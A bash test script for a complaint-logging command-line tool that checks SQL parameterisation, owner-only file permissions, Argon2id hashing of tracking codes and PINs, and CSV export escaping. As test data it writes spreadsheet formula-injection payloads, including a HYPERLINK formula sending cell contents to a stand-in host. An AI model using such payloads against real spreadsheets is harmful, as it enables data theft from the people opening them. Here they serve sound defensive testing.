#!/usr/bin/env bash
# t_security.sh - the security basics of SPEC section 9 as tests: no SQL
# built from pieces anywhere in app/, files created for their owner only
# whatever the umask, and the checks that arrive with each module (staff
# PINs, exports, receipts, tracking codes) when its command is there.
. "$(dirname "$0")/../cli/lib.sh"
ROOT=${TELLUS_ROOT:-$(cd "$(dirname "$0")/../.." && pwd)}
has_cmd() { "$TELLUS" --help 2>/dev/null | grep -qE "^ +$1( |$)"; }
mode() { stat -c %a "$1"; }

# --- SQL only as prepared statements with bound parameters --------------
if python3 "$ROOT/tests/security/sqlcheck.py" --self-test >"$T_OUT" 2>&1; then
	t_ok "the SQL checker finds every planted case of SQL built from pieces"
else
	t_fail "the SQL checker finds every planted case of SQL built from pieces" "$(cat "$T_OUT")"
fi
mapfile -t sources < <(cd "$ROOT" && find app include -name '*.[ch]' | sort)
if (cd "$ROOT" && python3 tests/security/sqlcheck.py "${sources[@]}") >"$T_OUT" 2>&1; then
	t_ok "no SQL built by formatting or concatenation in ${#sources[@]} files of app/ and include/"
else
	t_fail "no SQL built by formatting or concatenation in app/ and include/" "$(head -20 "$T_OUT")"
fi

# A bulk write of new cases notes a cause given to an older case in
# case_store.c, the one place that writes causes (rule 11 of tally.sql.h):
# SQL anywhere else that wrote them would leave the totals wrong.
writers=$(cd "$ROOT" && grep -rlE "(INSERT( OR [A-Z]+)? INTO|UPDATE( OR [A-Z]+)?|DELETE FROM|REPLACE INTO) +(main\.)?case_causes\b" \
	app include | grep -v '^app/core/case/case_store.c$')
same "causes are written by case_store.c alone" "$writers" ""

# --- Files for their owner only --------------------------------------------
for mask in 022 000; do
	db=$T_DIR/umask$mask.db
	(umask $mask; "$TELLUS" --db "$db" log --kind complaint --complainant child \
		--service Fostering --summary "private words" >/dev/null)
	same "database created 0600 under umask $mask" "$(mode "$db")" 600
	# The WAL and shared-memory files hold the same words; they last while
	# a program has the file open, so a reader keeps it open meanwhile.
	{ echo "SELECT count(*) FROM cases;"; sleep 2; } | (umask $mask; sqlite3 "$db" >/dev/null) &
	holder=$!
	sleep 0.3
	(umask $mask; "$TELLUS" --db "$db" log --kind complaint --complainant child \
		--service Fostering --summary "more private words" >/dev/null)
	wal=$(for f in "$db"-wal "$db"-shm; do [ -e "$f" ] && mode "$f"; done | tr '\n' ' ')
	same "its -wal and -shm files 0600 under umask $mask" "$wal" "600 600 "
	wait $holder
done
(umask 022; unset TELLUS_DB; XDG_DATA_HOME=$T_DIR/xdg "$TELLUS" config get authority_name >/dev/null 2>&1)
same "the default database folder is created 0700" "$(mode "$T_DIR/xdg/tellus")" 700
same "the default database is created 0600" "$(mode "$T_DIR/xdg/tellus/tellus.db")" 600

# --- Receipts and tracking codes -------------------------------------------
if has_cmd receipt; then
	REF=$("$TELLUS" log --kind complaint --complainant child --service Fostering --summary "my words")
	for ext in txt svg png; do
		(umask 022; "$TELLUS" receipt "$REF" --out "$T_DIR/receipt.$ext" >"$T_OUT" 2>"$T_ERR")
		same "a .$ext receipt is created 0600 under umask 022" "$(mode "$T_DIR/receipt.$ext" 2>&1)" 600
	done
	# The last .txt receipt's code was replaced by the .svg and .png ones:
	# issue one more and keep it.
	"$TELLUS" receipt "$REF" --out "$T_DIR/keep.txt" >"$T_OUT" 2>"$T_ERR"
	code=$(sed -n 's/^Secret code: *//p' "$T_DIR/keep.txt")
	bare=${code//-/}
	if [ ${#bare} -ge 8 ] && "$TELLUS" track "$REF" "$code" >/dev/null 2>&1; then
		t_ok "the receipt's tracking code is the real one (track accepts it)"
	else
		t_fail "the receipt's tracking code is the real one (track accepts it)" "code '$code'"
	fi
	"$TELLUS" track "$REF" "$code" >"$T_DIR/track.out" 2>&1
	"$TELLUS" audit >"$T_DIR/audit.out" 2>&1
	sqlite3 "$TELLUS_DB" .dump >"$T_DIR/dump.sql"
	# Every place a code could leak: the database and its WAL as bytes, a
	# dump, the audit trail, and what the commands printed.
	leaks=$(grep -la -e "$code" -e "$bare" "$TELLUS_DB" "$TELLUS_DB"-wal "$T_DIR/dump.sql" \
		"$T_DIR/audit.out" "$T_OUT" "$T_ERR" "$T_DIR/track.out" 2>/dev/null | xargs -r -n1 basename)
	same "the tracking code is nowhere in the database, the audit trail or the output" "$leaks" ""
	hash=$(sqlite3 "$TELLUS_DB" "SELECT tracking_hash FROM cases WHERE ref = '$REF'")
	case $hash in
	'$argon2id$'*) t_ok "the tracking code is stored as an Argon2id hash" ;;
	*) t_fail "the tracking code is stored as an Argon2id hash" "got: ${hash:0:40}" ;;
	esac
fi

# --- Exports: owner-only, and no cell a spreadsheet would run --------------
if has_cmd export; then
	# Service areas and teams are configured lists: these names go on first.
	if has_cmd services; then
		"$TELLUS" services add "=1+2" && "$TELLUS" services add "@Adoption" &&
			"$TELLUS" teams add "+44 20 7946 0000" && "$TELLUS" teams add "'=already quoted"
	fi
	"$TELLUS" log --kind complaint --complainant child --service "=1+2" --team "+44 20 7946 0000" \
		--summary '=HYPERLINK("http://example.invalid/?x="&A1,"Click")' \
		--desired "-2+3" --contact "@SUM(A1:A9)" >/dev/null
	"$TELLUS" log --kind complaint --complainant parent --service "@Adoption" \
		--team "'=already quoted" --summary $'\tTabbed words' >/dev/null
	(umask 022; "$TELLUS" export "$T_DIR/export.csv" >/dev/null 2>"$T_ERR")
	same "an export is created 0600 under umask 022" "$(mode "$T_DIR/export.csv" 2>&1)" 600
	# Every cell as a spreadsheet reads it: none may start a formula.
	bad=$(python3 - "$T_DIR/export.csv" <<'PY'
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    rows = list(csv.reader(f))
cells = [c for r in rows[1:] for c in r]
print(len([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")]), len(cells))
PY
)
	same "none of the ${bad##* } exported cells starts with = + - @ or a tab" "${bad%% *}" 0
	if grep -q "'=HYPERLINK" "$T_DIR/export.csv" && grep -q "''=already quoted" "$T_DIR/export.csv"; then
		t_ok "formula cells are written with a leading ' (and a leading ' is doubled)"
	else
		t_fail "formula cells are written with a leading ' (and a leading ' is doubled)" \
			"$(grep -m2 -E "HYPERLINK|already" "$T_DIR/export.csv")"
	fi
	# export -> import -> export is exact: the guard comes off on import.
	TELLUS_DB=$T_DIR/again.db "$TELLUS" import "$T_DIR/export.csv" >/dev/null 2>"$T_ERR"
	TELLUS_DB=$T_DIR/again.db "$TELLUS" export "$T_DIR/export2.csv" >/dev/null 2>>"$T_ERR"
	if cmp -s "$T_DIR/export.csv" "$T_DIR/export2.csv"; then
		t_ok "export, import, export again gives the same bytes"
	else
		t_fail "export, import, export again gives the same bytes" "$(head -c 300 "$T_ERR")" \
			"$(diff "$T_DIR/export.csv" "$T_DIR/export2.csv" | head -5)"
	fi
	sqlite3 "$T_DIR/again.db" "SELECT summary FROM cases WHERE summary LIKE '%HYPERLINK%'" >"$T_OUT"
	same "the imported words are the words logged, without the guard" "$(cat "$T_OUT")" \
		'=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
fi

# --- Reports hold people's words too --------------------------------------
if has_cmd report; then
	for fmt in csv html; do
		(umask 022; "$TELLUS" report --year 2025 --format $fmt --out "$T_DIR/report-$fmt" \
			>/dev/null 2>"$T_ERR")
		modes=$(find "$T_DIR/report-$fmt" -type f -printf '%m\n' | sort -u | tr '\n' ' ')
		same "a $fmt report folder is created 0700 under umask 022" "$(mode "$T_DIR/report-$fmt" 2>&1)" 700
		same "every $fmt report file is created 0600" "$modes" "600 "
	done
fi

# --- Staff PINs --------------------------------------------------------------
if has_cmd staff; then
	printf '73950164\n73950164\n' | "$TELLUS" staff add "Sam Manager" --role manager >"$T_OUT" 2>"$T_ERR"
	same "staff add takes the PIN on stdin" "$(sqlite3 "$TELLUS_DB" \
		"SELECT count(*) FROM staff WHERE name = 'Sam Manager'")" 1
	hash=$(sqlite3 "$TELLUS_DB" "SELECT pin_hash FROM staff WHERE name = 'Sam Manager'")
	case $hash in
	'$argon2id$'*) t_ok "a staff PIN is stored as an Argon2id hash" ;;
	*) t_fail "a staff PIN is stored as an Argon2id hash" "got: ${hash:0:40}" ;;
	esac
	"$TELLUS" audit >"$T_DIR/audit.out" 2>&1
	sqlite3 "$TELLUS_DB" .dump >"$T_DIR/dump.sql"
	leaks=$(grep -la 73950164 "$TELLUS_DB" "$TELLUS_DB"-wal "$T_DIR/dump.sql" "$T_DIR/audit.out" \
		"$T_OUT" "$T_ERR" 2>/dev/null | xargs -r -n1 basename)
	same "the PIN is nowhere in the database, the audit trail or the output" "$leaks" ""
fi
